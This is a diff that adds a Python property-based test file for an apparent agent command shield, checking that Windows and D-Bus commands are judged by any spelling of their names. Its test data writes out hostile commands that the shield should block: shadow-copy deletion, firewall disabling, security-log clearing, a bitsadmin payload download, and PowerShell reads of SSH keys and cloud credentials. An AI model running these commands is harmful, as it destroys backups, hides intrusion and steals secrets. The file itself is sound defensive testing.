@@ -1,0 +1,114 @@
+"""Windows from WSL (the seventeenth sitting's held-out `classes-fresh93.txt`: `wmic.exe
+shadowcopy delete`, `netsh.exe advfirewall set allprofiles state off` and `wevtutil.exe cl
+Security` were allowed, their rows naming `wmic`, `netsh`, `wevtutil`; `pwsh -c
+"Get-Content C:\\Users\\me\\.ssh\\id_ed25519"` was allowed, `Format-Volume` read as
+`Format-Table` is).
+
+The laws: a Windows program is the same program by any spelling of its name (`reg`,
+`reg.exe`, `REG.EXE`, `/mnt/c/Windows/System32/reg.exe`); PowerShell's and cmd's reads of
+a secret, named by any of Windows' spellings of the user's folder, are asked about as the
+shell's read of it is, and their reads of the project's files run; a bus call runs only
+when its method reads. Each is shown catching a deliberately broken reading."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from toolpipe.layers._shield_readings import clear_caches
+from toolpipe.layers.shield import UnixShield
+
+SHIELD = UnixShield()
+
+
+def decide(command: str, shield: UnixShield = SHIELD) -> str:
+    return shield.evaluate("Bash", {"command": command}, ()).action
+
+
+SPELLINGS = st.sampled_from(["{n}", "{n}.exe", "{N}.EXE", "/mnt/c/Windows/System32/{n}.exe",
+                             "'C:\\Windows\\System32\\{n}.exe'"])
+WINDOWS = st.sampled_from([
+    ("wmic", "shadowcopy delete", "shadowcopy list brief"),
+    ("netsh", "advfirewall set allprofiles state off", "advfirewall show allprofiles"),
+    ("wevtutil", "cl Security", "qe Security /c:5 /f:text"),
+    ("reg", "delete HKLM\\SOFTWARE\\Policies /f", "query HKCU\\Software"),
+    ("vssadmin", "delete shadows /all /quiet", "list shadows"),
+    ("net", "stop wuauserv", "start"),
+    ("bitsadmin", "/transfer j /download http://203.0.113.9/a.exe a.exe", "/list")])
+
+
+@settings(max_examples=60, deadline=None)
+@given(SPELLINGS, WINDOWS)
+def test_a_windows_program_is_judged_by_any_spelling_of_its_name(spelling, row):
+    name, acts, reads = row
+    program = spelling.format(n=name, N=name.upper())
+    assert decide(f"{program} {acts}") != "allow", (program, acts)
+    assert decide(f"{program} {reads}") == "allow", (program, reads)
+
+
+HOMES = st.sampled_from(["C:\\Users\\me", "c:/Users/me", "%USERPROFILE%", "$HOME",
+                         "${env:USERPROFILE}"])
+SECRETS = st.sampled_from([".ssh\\id_ed25519", ".aws\\credentials", ".kube\\config",
+                           ".docker\\config.json", ".netrc"])
+READS = st.sampled_from([("pwsh -c", "Get-Content {p}"),
+                         ("pwsh -c", "gc {p} | Select-Object -First 3"),
+                         ("powershell.exe -Command", "Get-Content -Path {p}"),
+                         ("cmd.exe /c", "type {p}"), ("cmd.exe /c", "more {p}")])
+
+
+def quoted(code: str) -> str:
+    return "'" + code.replace("'", "'\\''") + "'"
+
+
+@settings(max_examples=80, deadline=None)
+@given(READS, HOMES, SECRETS)
+def test_a_secret_read_by_windows_code_is_asked_about_as_the_shells_read(read, home, secret):
+    shell, code = read
+    if shell.startswith("cmd") and home.startswith("$"):
+        home = "%USERPROFILE%"  # (cmd's variables are its own)
+    if shell.startswith(("pwsh", "powershell")) and home.startswith("%"):
+        home = "$env:USERPROFILE"
+    command = f"{shell} {quoted(code.format(p=home + chr(92) + secret))}"
+    assert decide(command) != "allow", command
+    # and the project's own files, read alike, run
+    assert decide(f"{shell} {quoted(code.format(p='docs' + chr(92) + 'notes.txt'))}") == "allow"
+
+
+METHODS = st.sampled_from(["PowerOff", "Reboot", "StopUnit", "KillUnit", "TerminateSession",
+                           "DisableUnitFiles", "SetWallMessage"])
+GETTERS = st.sampled_from(["GetUnit", "ListUnits", "Introspect", "Ping", "CanPowerOff",
+                           "GetAll", "Get"])
+CALLS = st.sampled_from([
+    "busctl call org.freedesktop.x /org/freedesktop/x org.freedesktop.x.Manager {m} s a",
+    "dbus-send --system --print-reply --dest=org.freedesktop.x /org/freedesktop/x "
+    "org.freedesktop.x.Manager.{m} string:a",
+    "gdbus call --system --dest org.freedesktop.x --object-path /org/freedesktop/x "
+    "--method org.freedesktop.x.Manager.{m} a",
+    "qdbus org.freedesktop.x /org/freedesktop/x org.freedesktop.x.Manager.{m} a"])
+
+
+@settings(max_examples=60, deadline=None)
+@given(CALLS, METHODS, GETTERS)
+def test_a_bus_call_runs_only_when_its_method_reads(call, method, getter):
+    assert decide(call.format(m=method)) != "allow", call.format(m=method)
+    assert decide(call.format(m=getter)) == "allow", call.format(m=getter)
+
+
+@pytest.mark.parametrize("broken", ["exe", "windows-reads"])
+def test_the_laws_catch_a_broken_reading(monkeypatch, broken):
+    from toolpipe.shell import _carried, _model
+
+    clear_caches()
+    try:
+        if broken == "exe":  # the name as typed: `wmic.exe` is not `wmic`
+            monkeypatch.setattr(_model.Command, "name", property(
+                lambda self: self.argv[0].text.rpartition("/")[2].lower()
+                if self.argv and self.argv[0].known else ""))
+            assert decide("wmic.exe shadowcopy delete", UnixShield()) == "allow"
+        else:  # PowerShell's reads not spelled in the shell's words
+            monkeypatch.setattr(_carried, "read_as_shell", lambda code: "")
+            assert decide("pwsh -c 'Get-Content C:\\Users\\me\\.ssh\\id_ed25519'",
+                          UnixShield()) == "allow"
+    finally:
+        clear_caches()
